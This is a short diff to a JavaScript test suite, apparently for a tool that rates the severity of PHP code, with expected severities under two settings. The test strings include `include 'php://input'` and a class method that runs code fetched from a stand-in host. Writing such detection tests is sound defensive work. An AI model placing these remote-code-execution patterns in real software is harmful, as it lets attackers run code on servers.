@@ -26,5 +26,7 @@ describe('a file that is written as released software is', () => {
       'critical',
     );
     expect(severityOf(`include 'php://input';`, -9)).toBe('critical');
+    const asked = `class A { function b() { ${RUN}(file_get_contents('http://a.example.test/')); } }`;
+    expect([severityOf(asked, 0), severityOf(asked, -9)]).toEqual(['critical', 'medium']);
   });
 });
